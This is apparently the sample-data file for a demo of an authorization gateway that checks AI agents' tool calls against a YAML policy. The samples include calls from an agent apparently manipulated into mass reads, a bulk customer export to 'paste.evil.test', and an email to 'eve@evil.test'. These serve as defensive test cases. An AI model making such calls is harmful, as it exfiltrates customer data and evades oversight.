"use strict";
// What the page opens with, and the examples to choose from.

// The key is an example whose private half nobody has.
const SAMPLE_POLICY = `policy_version: crm-support-v12
identity:
  issuers:
    - issuer: https://idp.example.com
      audiences: [https://gateway.example.com/mcp]
      algorithms: [ES256]
      max_lifetime: 15m
      jwks:
        inline:
          keys:
            - {kty: EC, crv: P-256, kid: example-1, x: f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU, y: x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0}
routes:
  - match: {path: /mcp}
    protocol: mcp
    server: crm
  - match: {prefix: /v1/}
    protocol: rest
    server: payments
    operations:
      - {method: POST, path: "/v1/payments/{id}/refund", tool: payments.refund, action: transfer, resource: {type: payment, id: "{id}"}}
tools:
  salesforce.query: {action: read, resource: {type: Account, id: /account_id}}
risk:
  ask_at: high
  trusted_domains: [example.com]
  limits: {rows: 100, recipients: 5, amount: {max: 500, currency: USD}}
rules:
  - id: support-agent-single-record-read
    effect: allow
    when:
      agent.role: support
      tool: salesforce.query
      action: read
      resource.type: Account
      parameters.limit_lte: 1
  - id: support-agent-mail
    effect: allow
    when: {agent.role: support, action: send}
  - id: refunds-are-decided
    effect: ask
    when: {tool: payments.refund}
  - id: no-bulk-export
    effect: deny
    when: {agent.role: support, action: export}
    reason: support agents may not perform bulk customer exports
decision:
  cluster: pdp
  url: https://pdp.example.com
`;

const SUPPORT = { client_id: "support-agent", sub: "ann@example.com", role: "support" };

const SAMPLES = [
  ["Support reads one account", { claims: SUPPORT, tool: "salesforce.query", arguments: { account_id: "001A", limit: 1 } }],
  ["The same, talked into reading them all", { claims: SUPPORT, tool: "salesforce.query", arguments: { account_id: "001A", limit: 50000 } }],
  ["A bulk export", { claims: SUPPORT, tool: "salesforce.export_contacts", arguments: { limit: 250000, destination: "https://paste.evil.test/upload" } }],
  ["A mail to somebody outside", { claims: SUPPORT, tool: "send_email", arguments: { to: ["eve@evil.test"], subject: "as asked", body: "see https://evil.test/x" } }],
  ["A refund over REST", { claims: SUPPORT, request: { method: "POST", path: "/v1/payments/pay_42/refund", body: { amount: 120, currency: "USD" } } }],
  ["A token for somebody else", { claims: { ...SUPPORT, aud: "https://elsewhere.example.com" }, tool: "salesforce.query", arguments: {} }],
  ["An audit record: why was this denied?", 'toolgate audit {"time":"2026-03-01T12:00:00.000Z","decision_id":"0c8e1b6f5f7d4d1b","policy_version":"crm-support-v12","mode":"enforce","issuer":"https://idp.example.com","agent":"support-agent","user":"ann@example.com","actors":[],"token_id":"t-1","server":"crm","protocol":"mcp","method":"tools/call","tool":"salesforce.export_contacts","action":"export","action_source":"name","parameters_digest":"sha256:5d41402abc4b2a76b9719d911017c592","risk":{"level":"critical","score":100,"findings":[{"code":"rows.over_limit","pointer":"/limit","detail":"more than the 100 rows of `limits.rows`"}]},"rule":"no-bulk-export","asked":false,"verdict":"reject","reason":"policy.denied","detail":"support agents may not perform bulk customer exports","status":403,"durations":{"held_ms":1}}'],
];
